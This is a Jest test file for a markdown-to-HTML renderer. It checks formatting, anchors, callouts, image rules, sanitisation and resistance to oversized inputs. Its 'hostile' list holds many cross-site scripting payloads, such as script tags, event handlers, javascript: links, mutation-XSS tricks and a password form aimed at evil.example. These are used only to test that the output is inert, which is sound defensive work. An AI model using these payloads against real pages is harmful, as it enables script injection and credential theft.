import { describe, expect, it } from '@jest/globals';
import { JSDOM } from 'jsdom';
import { growthOf } from '../../test/growth.js';
import { renderMarkdown, shownTo } from './render-markdown.js';

const OWN = '019a0000-0000-7000-8000-000000000001';
const render = (body: string, locale = 'en') => renderMarkdown(body, { locale, images: new Map([[OWN, { width: 640, height: 480 }]]) });
const { window } = new JSDOM('<!doctype html>');
const dom = (html: string) => new window.DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body;

describe('an article', () => {
  it('has tables, code, lists and links as written', () => {
    const body = dom(render('| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```js\nlet a = "<b>";\n```\n\n1. one\n   - two\n\n[shop](https://shop.example "t") https://auto.example ~~gone~~').html);
    expect(body.querySelector('.table[tabindex="0"] table td.align-right')!.textContent).toBe('2');
    expect(body.querySelector('pre code.language-js')!.textContent).toBe('let a = "<b>";\n');
    expect(body.querySelector('ol li ul li')!.textContent).toBe('two');
    expect([...body.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.rel])).toEqual([['https://shop.example', 'noopener nofollow'], ['https://auto.example', 'noopener nofollow']]);
    expect(body.querySelector('s')!.textContent).toBe('gone');
  });

  it('has anchors and a table of contents below its title', () => {
    const { html, toc } = render('# 退货 政策\n\n## How *long*?\n\n## How long?\n\n##### Deep\n\n## !?\n');
    expect(toc).toEqual([
      { level: 2, text: '退货 政策', anchor: 'sec-退货-政策' },
      { level: 2, text: 'How long?', anchor: 'sec-how-long' },
      { level: 2, text: 'How long?', anchor: 'sec-how-long--2' },
      { level: 2, text: '!?', anchor: 'sec-part' },
    ]);
    expect([...dom(html).querySelectorAll('[id]')].map(({ id, localName }) => [localName, id])).toEqual([...toc.slice(0, 3).map(({ anchor }) => ['h2', anchor]), ['h5', 'sec-deep'], ['h2', 'sec-part']]);
  });

  it('has callouts in the reader’s language', () => {
    const [note, bare, quote] = [...dom(render('> [!WARNING]\n> Hot *water*\n\n---\n\n> [!tip]\n\n---\n\n> [!NONE]\n> text', 'zh-CN').html).querySelectorAll('.callout, blockquote')];
    expect(note!.outerHTML).toBe('<div class="callout callout-warning" role="note">\n<p class="callout-title">注意</p>\n<p>Hot <em>water</em></p>\n</div>');
    expect(bare!.textContent!.trim()).toBe('小提示');
    expect(quote!.textContent).toContain('[!NONE]');
  });

  it('shows images by https and the tenant’s own, and names the latter', () => {
    const { html, fileIds } = render(`![Lamp](kb-file:${OWN}) ![x](https://cdn.example/a.png) ![no](http://a.example/b.png) ![no](kb-file:019a0000-0000-7000-8000-000000000002) ![no](/a.png)`);
    expect(fileIds).toEqual([OWN]);
    const shown = dom(shownTo(html, (id) => `/help/shop/files/${id}?a=1&b="`));
    expect([...shown.querySelectorAll('img')].map((img) => [img.getAttribute('src'), img.alt, img.getAttribute('width')])).toEqual([[`/help/shop/files/${OWN}?a=1&b="`, 'Lamp', '640'], ['https://cdn.example/a.png', 'x', null]]);
  });
});

const hostile = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img src="https://a.example/x.png" onload=alert(1) style="position:fixed">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="data:text/html,<script>alert(1)</script>">', '<embed src="javascript:alert(1)">', '<base href="//evil.example/">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>', '<a href="javascript:alert(1)">x</a>', '<a href=" java\nscript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="//evil.example">x</a>', '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.example/"onerror="alert(1))', '[x](https://a.example/"onclick="alert(1))', '[x](<javascript:alert(1)>)', '<https://a.example/"onclick=alert(1)>', '[a]: javascript:alert(1)\n\n[a]',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<p style="background:url(javascript:alert(1))">x</p>', '<div style="position:fixed;inset:0">x</div>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea></textarea><script>alert(1)</script>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>', '<p id="location">x</p><img name="body" src="https://a.example/x.png">', '<h2 id="cookie">x</h2>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)><summary>x</summary></details>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<body onload=alert(1)>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<a href="https://a.example" target=_blank rel=opener onclick=alert(1)>x</a>',
  '```js"onmouseover="alert(1)\nx\n```', '~~~ <script>alert(1)</script>\nx\n~~~', '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |', '# <img src=x onerror=alert(1)> <script>alert(1)</script>', '> [!NOTE]<script>alert(1)</script>\n> <script>alert(1)</script>',
  '<a href="https://a.example/`onclick=alert(1)`">`</a>', '\u0000<script\u0000>alert(1)</script>', '<img/src/onerror=alert(1)>', '<a/href="javascript:alert(1)"/x>y</a>', '&lt;script&gt;alert(1)&lt;/script&gt;', '<custom-element onclick=alert(1)>x</custom-element>', '<button popovertarget=x>x</button>', '<dialog open>x</dialog>',
  '<p slot=x is=y itemprop=z data-x=1 aria-label=x contenteditable tabindex=1>x</p>', '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>', '<a ping="https://evil.example" href="https://a.example">x</a>', '<img srcset="https://evil.example/x.png 1x" src="https://a.example/x.png">', '<img lowsrc=javascript:alert(1)>',
];
const allowed = new Set(['href', 'title', 'rel', 'src', 'alt', 'width', 'height', 'loading', 'decoding', 'class', 'role', 'tabindex', 'colspan', 'rowspan', 'scope', 'id', 'start', 'open', 'dir']);
const runs = 'script,style,link,meta,base,svg,math,iframe,frame,object,embed,form,input,button,select,textarea,template,noscript,video,audio,source,dialog,marquee,body body,title,xmp';

/** What is not inert in a page. */
function faultsIn(html: string): string[] {
  const body = dom(html);
  const faults = [...body.querySelectorAll(runs)].map((element) => `<${element.localName}>`);
  for (const element of body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (!allowed.has(name) || name.startsWith('on')) faults.push(`${element.localName} ${name}`);
      if (name === 'href' && !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/i.test(value) && /^[\s\p{Cc}]*[a-z+.-]+:|^\/\//iu.test(value)) faults.push(`href ${value}`);
      if (name === 'src' && !/^(https:\/\/|kb-file:)/.test(value)) faults.push(`src ${value}`);
      if (name === 'id' && !value.startsWith('sec-')) faults.push(`id ${value}`);
      if (name === 'rel' && value !== 'noopener nofollow') faults.push(`rel ${value}`);
    }
  }
  return faults;
}

describe('hostile text', () => {
  it.each(hostile)('is inert: %s', (body) => {
    for (const around of [body, `text ${body} text`, `> ${body}`, `- ${body}`, `<div>${body}</div>`, `**${body}**`, `| a |\n|-|\n| ${body.replace(/\n/g, ' ')} |`]) {
      const { html, toc } = render(around);
      expect(faultsIn(html)).toEqual([]);
      // What was made safe once stays so when it is parsed and written again.
      expect(faultsIn(dom(dom(html).innerHTML).innerHTML)).toEqual([]);
      expect(JSON.stringify(toc)).not.toContain('<script');
    }
  });

  it('of all kinds together is inert', () => expect(faultsIn(render(hostile.join('\n\n')).html).concat(faultsIn(render(hostile.join(' ')).html))).toEqual([]));

  it.each([
    ['quotes', '>'.repeat(100_000)], ['lists', Array.from({ length: 400 }, (_, n) => `${' '.repeat(n * 2 > 200 ? 200 : n * 2)}- x`).join('\n')], ['brackets', '['.repeat(100_000)], ['links', '[a]('.repeat(25_000)], ['images', '![a]('.repeat(20_000)], ['stars', '*a'.repeat(50_000)], ['underscores', '_'.repeat(100_000)],
    ['backticks', Array.from({ length: 440 }, (_, n) => '`'.repeat(n)).join(' ')], ['tags', '<div>'.repeat(20_000)], ['open tags', '<'.repeat(100_000)], ['attributes', `<a ${'x '.repeat(49_000)}>`], ['comments', '<!--'.repeat(25_000)], ['a table', `${'|a'.repeat(1000)}|\n${'|-'.repeat(1000)}|\n${'|b\n'.repeat(30_000)}`],
    ['entities', '&'.repeat(100_000)], ['addresses', 'https://a.example/('.repeat(5000)], ['mails', 'a@'.repeat(50_000)], ['headings', '# a\n'.repeat(25_000)], ['references', Array.from({ length: 4000 }, (_, n) => `[${n}]: https://a.example/${n}`).join('\n')], ['spaces', ' '.repeat(100_000)], ['callouts', '> [!NOTE]\n\n'.repeat(9000)],
  ])('takes room that is bounded and time that grows with the text: %s', (_, body) => {
    const outcome = (text: string) => {
      try {
        return render(text).html.length;
      } catch (error) {
        return (error as { code?: string }).code;
      }
    };
    const text = body.slice(0, 100_000);
    expect(outcome(text) === 'article.too_complex' || Number(outcome(text)) <= 1_000_000).toBe(true);
    expect(growthOf(outcome, text)).toBeLessThan(3.3);
  });
});
